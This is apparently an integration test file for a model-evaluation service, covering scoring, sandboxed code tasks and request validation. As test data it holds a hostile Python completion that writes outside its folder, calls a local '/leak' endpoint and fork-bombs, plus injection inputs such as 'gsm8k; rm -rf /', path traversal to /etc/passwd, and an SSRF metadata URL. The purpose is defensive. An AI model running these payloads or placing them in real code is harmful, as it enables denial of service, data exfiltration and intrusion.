import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { sandboxAvailable } from '../../src/evaluation/code-sandbox';
import { errorCode } from '../support/catalog-fixtures';
import { importVerified, OPERATION_FIELDS, waitForOperation } from '../support/onboarding-fixtures';
import { type ScriptedOpenAiServer, startScriptedOpenAiServer } from '../support/scripted-openai-server';
import { startTestApp, type TestApp } from '../support/test-app';
import { type HubServer, startHubServer } from '../fixtures/hub-server';

const RUN = `mutation($input: RunEvaluationInput!) { runEvaluation(input: $input) { ${OPERATION_FIELDS} } }`;
const EVALS = `query($m: ID!) { model(id: $m) { evaluations { benchmark score provenance suite metric n stderr datasetVersion runner runnerVersion details } } }`;
const jsonl = (rows: object[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
const marker = path.join(os.tmpdir(), `hostile-${randomBytes(4).toString('hex')}`);

// Known answers: the scripted endpoint answers three of four questions right, one exact-match item wrong.
const MC = [
  { question: 'Q1: 2+2?', choices: ['3', '4', '5', '6'], answer: 'B', subject: 'math' },
  { question: 'Q2: 3*3?', choices: ['9', '6', '3', '1'], answer: 0, subject: 'math' },
  { question: 'Q3: capital of Italy?', choices: ['Paris', 'Rome', 'Oslo'], answer: 'B', subject: 'geography' },
  { question: 'Q4: capital of Spain?', choices: ['Madrid', 'Rome', 'Oslo'], answer: 'A', subject: 'geography' },
];
const EXACT = [
  { prompt: 'E1: capital of France?', answer: 'Paris' },
  { prompt: 'E2: capital of Norway?', answer: 'Oslo' },
];
const CODE = [
  { prompt: 'def add(a, b):\n', test: 'def check(f):\n    assert f(2, 3) == 5\n', entry_point: 'add' },
  { prompt: 'def evil(a, b):\n', test: 'def check(f):\n    assert f(2, 3) == 5\n', entry_point: 'evil' },
];

function answer(server: () => string) {
  return (prompt: string): string => {
    if (prompt.includes('Q1')) return 'The answer is B.';
    if (prompt.includes('Q2')) return 'A';
    if (prompt.includes('Q3')) return '(B) Rome';
    if (prompt.includes('Q4')) return 'C';
    if (prompt.includes('E1')) return 'paris.';
    if (prompt.includes('E2')) return 'Bergen';
    if (prompt.includes('def add')) return '```python\n    return a + b\n```';
    // A hostile completion: writes outside its folder, calls home, then forks without end; and is wrong.
    return [
      '    import os, urllib.request',
      `    try: open(${JSON.stringify(marker)}, "w").write("x")`,
      '    except OSError: pass',
      `    try: urllib.request.urlopen(${JSON.stringify(server() + '/leak')}, timeout=1)`,
      '    except Exception: pass',
      '    while True:',
      '        try: os.fork()',
      '        except OSError: pass',
    ].join('\n') + '\n';
  };
}

describe('runEvaluation through GraphQL and Temporal', () => {
  let t: TestApp;
  let server: ScriptedOpenAiServer;
  let datasets: string;
  let ids: { modelId: string; versionId: string };
  let hub: HubServer;

  beforeAll(async () => {
    // Datasets can also come from the hub: the worker reads hf://datasets/… through HF_ENDPOINT.
    hub = await startHubServer();
    hub.repos.set('datasets/acme/exact', { files: { 'data/test.jsonl': Buffer.from(jsonl(EXACT)) } });
    datasets = await mkdtemp(path.join(os.tmpdir(), 'modelhub-datasets-'));
    await mkdir(path.join(datasets, 'fixtures'));
    await writeFile(path.join(datasets, 'fixtures/mc.jsonl'), jsonl(MC));
    await writeFile(path.join(datasets, 'fixtures/exact.jsonl'), jsonl(EXACT));
    await writeFile(path.join(datasets, 'fixtures/code.jsonl'), jsonl(CODE));
    // No judge endpoint, and no lm-evaluation-harness where LM_EVAL_BIN points: the refusals below.
    t = await startTestApp({ worker: true, env: { EVAL_DATASETS_DIR: datasets, EVAL_HUB_CACHE_DIR: path.join(datasets, '.hub-cache'), HF_ENDPOINT: hub.url, LM_EVAL_BIN: path.join(datasets, 'no-lm-eval-here') } });
    server = await startScriptedOpenAiServer({ firstTokenDelayMs: 5, interTokenDelayMs: 0, outputTokens: 1, answer: answer(() => server.url) });
    ids = await importVerified(t);
  });
  afterAll(async () => {
    await server?.close();
    await t?.stop();
    await hub?.close();
    await rm(datasets, { recursive: true, force: true });
  });

  const target = () => ({ url: server.url, model: 'tiny' });

  it('scores multiple-choice and exact-match tasks against known answers, as MEASURED evaluations', async () => {
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'fixtures', tasks: [
      { name: 'mc-fixture', kind: 'MULTIPLE_CHOICE', dataset: 'fixtures/mc.jsonl' },
      { name: 'exact-fixture', kind: 'EXACT_MATCH', dataset: 'fixtures/exact.jsonl' },
    ] } } });
    expect(res.errors).toBeUndefined();
    expect(res.data!.runEvaluation).toMatchObject({ kind: 'EVALUATION' });
    expect(await waitForOperation(t, res.data!.runEvaluation.id)).toMatchObject({ status: 'SUCCEEDED', progress: 1 });
    const evals = (await t.gql(EVALS, { m: ids.modelId })).data!.model.evaluations;
    const mc = evals.find((e: { benchmark: string }) => e.benchmark === 'mc-fixture');
    expect(mc).toMatchObject({ score: 0.75, n: 4, provenance: 'MEASURED', suite: 'fixtures', metric: 'accuracy', runner: 'modelhub-builtin', runnerVersion: '1' });
    expect(mc.stderr).toBeCloseTo(Math.sqrt((0.75 * 0.25) / 3), 6);
    expect(mc.datasetVersion).toMatch(/^[0-9a-f]{16}$/);
    expect(mc.details.subjects).toEqual({ math: { accuracy: 1, n: 2 }, geography: { accuracy: 0.5, n: 2 } });
    expect(evals.find((e: { benchmark: string }) => e.benchmark === 'exact-fixture')).toMatchObject({ score: 0.5, n: 2, metric: 'exact_match' });
    // The operation leads to what it stored: one evaluation per task.
    const byOp = await t.gql(`query($id: ID!) { operation(id: $id) { benchmark { id } evaluations { benchmark score } } }`, { id: res.data!.runEvaluation.id });
    expect(byOp.data!.operation).toEqual({ benchmark: null, evaluations: [{ benchmark: 'exact-fixture', score: 0.5 }, { benchmark: 'mc-fixture', score: 0.75 }] });
  });

  it('scores a task over a hub dataset, naming the commit it was read at', async () => {
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'hub', tasks: [
      { name: 'exact-hub', kind: 'EXACT_MATCH', dataset: 'hf://datasets/acme/exact/data/test.jsonl' },
    ] } } });
    expect(res.errors).toBeUndefined();
    expect(await waitForOperation(t, res.data!.runEvaluation.id)).toMatchObject({ status: 'SUCCEEDED' });
    const evals = (await t.gql(EVALS, { m: ids.modelId })).data!.model.evaluations;
    const row = evals.find((e: { benchmark: string }) => e.benchmark === 'exact-hub');
    expect(row).toMatchObject({ score: 0.5, n: 2, provenance: 'MEASURED' });
    expect(row.datasetVersion).toMatch(new RegExp(`^${hub.commitOf('datasets/acme/exact', 'main').slice(0, 12)}:[0-9a-f]{16}$`));
    // A reference that could leave the repository is refused at request time; one the hub lacks fails the run.
    const bad = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'hub', tasks: [{ name: 'x', kind: 'EXACT_MATCH', dataset: 'hf://datasets/acme/exact/../../x.jsonl' }] } } });
    expect(errorCode(bad)).toBe('BAD_USER_INPUT');
    const missing = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'hub', tasks: [{ name: 'x', kind: 'EXACT_MATCH', dataset: 'hf://datasets/acme/none/test.jsonl' }] } } });
    expect(await waitForOperation(t, missing.data!.runEvaluation.id)).toMatchObject({ status: 'FAILED', errorCode: 'BAD_USER_INPUT' });
  });

  it('runs code tasks in the sandbox: the right one passes, the hostile one is contained', async () => {
    // Never skipped: without what the sandbox needs the test fails, saying so.
    if (!sandboxAvailable()) throw new Error('the code-task sandbox needs Linux and root (unshare, prlimit from util-linux): run the tests as root, as .ci/run does');
    const before = server.requests;
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'code', tasks: [{ name: 'humaneval-fixture', kind: 'CODE', dataset: 'fixtures/code.jsonl' }] } } });
    expect(res.errors).toBeUndefined();
    expect(await waitForOperation(t, res.data!.runEvaluation.id)).toMatchObject({ status: 'SUCCEEDED' });
    const evals = (await t.gql(EVALS, { m: ids.modelId })).data!.model.evaluations;
    expect(evals.find((e: { benchmark: string }) => e.benchmark === 'humaneval-fixture')).toMatchObject({ score: 0.5, n: 2, metric: 'pass@1' });
    expect(existsSync(marker)).toBe(false);
    expect(server.requests - before).toBe(2); // the two completions; the hostile code's call home never arrived
  });

  it('refuses datasets outside the datasets folder and unknown kinds, writing nothing', async () => {
    const bad = (tasks: object[]) => t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks } } });
    expect(errorCode(await bad([{ name: 'x', kind: 'EXACT_MATCH', dataset: '../etc/passwd.jsonl' }]))).toBe('BAD_USER_INPUT');
    expect(errorCode(await bad([{ name: 'x', kind: 'EXACT_MATCH', dataset: '/etc/passwd' }]))).toBe('BAD_USER_INPUT');
    expect(errorCode(await bad([]))).toBe('BAD_USER_INPUT');
    expect(errorCode(await bad([{ name: 'x', kind: 'NOPE', dataset: 'a.jsonl' }]))).toBe('BAD_USER_INPUT');
  });

  it('refuses suite bombs and harness argument injection at request time, writing nothing', async () => {
    const count = async () => (await t.dataSource.query(`SELECT count(*)::int AS n FROM operations WHERE version_id = $1`, [ids.versionId]))[0].n as number;
    const before = await count();
    const ask = (tasks: object[], extra: Record<string, unknown> = {}) => t.gql(RUN, { input: { versionId: ids.versionId, target: { ...target(), ...extra }, suite: { name: 's', tasks } } });
    const exact = (i: number, more: object = {}) => ({ name: `t${i}`, kind: 'EXACT_MATCH', dataset: 'fixtures/exact.jsonl', ...more });
    const cases: [Promise<Awaited<ReturnType<typeof ask>>>, RegExp][] = [
      [ask(Array.from({ length: 33 }, (_, i) => exact(i))), /give 1 to 32 tasks/],
      [ask([exact(0, { limit: 100_001 })]), /limit: must be an integer between 1 and 100000/],
      // A name the leaderboard could never be asked for is refused, as recordEvaluation refuses it.
      [ask([exact(0, { name: 'MMLU (5-shot)' })]), /suite.tasks\[0\].name: must be a benchmark name/],
      [ask([exact(0, { name: 'mmlu' }), exact(1, { name: 'MMLU' })]), /task names must be unique/],
      [ask([exact(0, { maxTokens: 1_000_000 })]), /maxTokens: must be an integer between 1 and 32768/],
      [ask([exact(0, { dataset: 'hf://datasets/acme/qa@../x.jsonl' })]), /hf:\/\/datasets/],
      [ask([{ name: 'h', kind: 'LM_EVAL', harness: { task: '--include_path=/tmp' } }]), /must be one harness task name/],
      [ask([{ name: 'h', kind: 'LM_EVAL', harness: { task: 'gsm8k,mmlu' } }]), /must be one harness task name/],
      [ask([{ name: 'h', kind: 'LM_EVAL', harness: { task: 'gsm8k; rm -rf /' } }]), /must be one harness task name/],
      [ask([{ name: 'h', kind: 'LM_EVAL', harness: { task: 'gsm8k' } }], { model: 'tiny,base_url=http://169.254.169.254/v1' }), /target.model: must not contain ","/],
    ];
    for (const [pending, message] of cases) {
      const res = await pending;
      expect([errorCode(res), res.errors?.[0].message]).toEqual(['BAD_USER_INPUT', expect.stringMatching(message)]);
    }
    expect(await count()).toBe(before);
  });

  it('fails the run when a dataset is missing', async () => {
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [{ name: 'missing', kind: 'EXACT_MATCH', dataset: 'fixtures/none.jsonl' }] } } });
    const started = Date.now();
    const done = await waitForOperation(t, res.data!.runEvaluation.id);
    expect(done).toMatchObject({ status: 'FAILED', errorCode: 'BAD_USER_INPUT' });
    expect(done.errorMessage).toMatch(/fixtures\/none.jsonl: no such dataset in the worker's datasets folder \(EVAL_DATASETS_DIR\)/);
    expect(Date.now() - started).toBeLessThan(4000); // a verdict, not retried
  });

  it('names every task that cannot run at once, before any request reaches the endpoint', async () => {
    const before = server.requests;
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [
      { name: 'fine', kind: 'EXACT_MATCH', dataset: 'fixtures/exact.jsonl' },
      { name: 'missing', kind: 'EXACT_MATCH', dataset: 'fixtures/none.jsonl' },
      { name: 'wrong-kind', kind: 'EXACT_MATCH', dataset: 'fixtures/mc.jsonl' },
    ] } } });
    const done = await waitForOperation(t, res.data!.runEvaluation.id);
    expect(done).toMatchObject({ status: 'FAILED', errorCode: 'BAD_USER_INPUT' });
    expect(done.errorMessage).toMatch(/2 tasks cannot run: task missing: .*none\.jsonl.*; task wrong-kind: .*mc\.jsonl row 1/);
    expect(server.requests).toBe(before);
  });

  it('fails the run naming the row format its task kind expects when a row does not fit', async () => {
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [{ name: 'wrong-kind', kind: 'EXACT_MATCH', dataset: 'fixtures/mc.jsonl' }] } } });
    const done = await waitForOperation(t, res.data!.runEvaluation.id);
    expect(done).toMatchObject({ status: 'FAILED', errorCode: 'BAD_USER_INPUT' });
    expect(done.errorMessage).toContain('fixtures/mc.jsonl row 1: dataset row lacks a string "prompt" (EXACT_MATCH rows are {"prompt", "answer"})');
  });

  it('refuses a suite with a JUDGE task at once when no judge endpoint is configured, recording nothing', async () => {
    const count = async () => (await t.dataSource.query(`SELECT count(*)::int AS n FROM operations WHERE version_id = $1`, [ids.versionId]))[0].n as number;
    const before = await count();
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [
      { name: 'exact', kind: 'EXACT_MATCH', dataset: 'fixtures/exact.jsonl' },
      { name: 'mt', kind: 'JUDGE', dataset: 'fixtures/exact.jsonl' },
    ] } } });
    expect(errorCode(res)).toBe('BAD_USER_INPUT');
    expect(res.errors![0].message).toMatch(/suite\.tasks\[1\]\.kind: JUDGE tasks need a judge endpoint configured on the server \(EVAL_JUDGE_URL and EVAL_JUDGE_MODEL\)/);
    expect(await count()).toBe(before);
  });

  it('fails an LM_EVAL run at once, saying how to install the harness, when the worker has no lm_eval', async () => {
    const started = Date.now();
    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [{ name: 'gsm', kind: 'LM_EVAL', harness: { task: 'gsm8k' } }] } } });
    expect(res.errors).toBeUndefined();
    const done = await waitForOperation(t, res.data!.runEvaluation.id);
    expect(done).toMatchObject({ status: 'FAILED', errorCode: 'LM_EVAL_NOT_INSTALLED' });
    expect(done.errorMessage).toContain('pip install "lm-eval[api]"');
    expect(Date.now() - started).toBeLessThan(4000); // not retried
  });
});
